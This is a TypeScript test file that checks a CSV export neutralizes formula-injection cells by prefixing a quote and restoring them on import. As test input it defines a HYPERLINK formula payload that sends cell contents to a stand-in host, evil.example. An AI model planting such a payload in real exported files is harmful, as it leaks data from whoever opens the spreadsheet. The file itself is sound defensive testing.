import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
	formulaTriggers,
	isNeutralized,
	neutralizeCell,
	restoreCell,
} from '../../src/lib/exporters/cells';
import { partnersCsv } from '../../src/lib/exporters/partners';
import { siteWithSyntheticPartners } from '../fixtures/content';

/**
 * Formula injection ("CSV injection"): every text cell of a tabular export that starts with a
 * character a spreadsheet reads as the start of a formula gets a protective quote, which the
 * import takes off again. The workbook's side is tested in `workbook.test.ts`.
 * @see https://owasp.org/www-community/attacks/CSV_Injection
 */

const payload = (trigger: string) => `${trigger}HYPERLINK("http://evil.example/?"&A1,"x")`;

describe('neutralizeCell / restoreCell', () => {
	test.each(formulaTriggers.map((trigger) => [JSON.stringify(trigger), trigger]))(
		'quotes a cell starting with %s, and restores it',
		(_name, trigger) => {
			const text = payload(trigger);
			expect(neutralizeCell(text)).toBe(`'${text}`);
			expect(isNeutralized(neutralizeCell(text))).toBe(true);
			expect(restoreCell(neutralizeCell(text))).toBe(text);
		}
	);

	test('leaves other text as it is, a leading quote included', () => {
		for (const text of ['Alès', "'s-Hertogenbosch", 'a=b', ' =1', '', '47.9', 'https://x.org/=a'])
			expect([neutralizeCell(text), restoreCell(text)]).toEqual([text, text]);
	});

	test('adds one quote to text already quoted before a trigger, and takes one off', () => {
		expect(neutralizeCell("'=1")).toBe("''=1");
		expect(restoreCell("''=1")).toBe("'=1");
	});

	test('restoreCell undoes neutralizeCell for any text', () => {
		const text = fc.oneof(
			fc.string(),
			fc
				.tuple(fc.constantFrom("'", "''", ''), fc.constantFrom(...formulaTriggers), fc.string())
				.map((parts) => parts.join(''))
		);
		fc.assert(
			fc.property(text, (value) => {
				const safe = neutralizeCell(value);
				expect(restoreCell(safe)).toBe(value);
				// What a spreadsheet sees never starts a formula.
				expect(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(safe)).toBe(false);
			}),
			{ numRuns: 2000 }
		);
	});
});

describe('partners.csv', () => {
	const site = siteWithSyntheticPartners(3);

	test.each(formulaTriggers.map((trigger) => [JSON.stringify(trigger), trigger]))(
		'writes a cell starting with %s quoted, and csv-parse reads it back as text',
		(_name, trigger) => {
			const partner = structuredClone(site.partners[0]!);
			partner.data.city = payload(trigger);
			partner.data.abbreviation = '+33466785160';
			const csv = partnersCsv([partner]);
			expect(csv).toContain(`"'${payload(trigger).replaceAll('"', '""')}"`);
			const [row] = parseCsv(csv, { bom: true, columns: true }) as Record<string, string>[];
			expect(row!['city']).toBe(`'${payload(trigger)}`);
			expect(restoreCell(row!['city']!)).toBe(payload(trigger));
			expect(restoreCell(row!['abbreviation']!)).toBe('+33466785160');
		}
	);

	test('no cell of the file starts a formula', () => {
		const partner = structuredClone(site.partners[0]!);
		partner.data.name = { native: '=1+1', nativeLang: 'en', en: '@SUM(A1)' };
		partner.data.city = '-2+3';
		const rows = parseCsv(partnersCsv([partner]), { bom: true }) as string[][];
		for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
	});
});
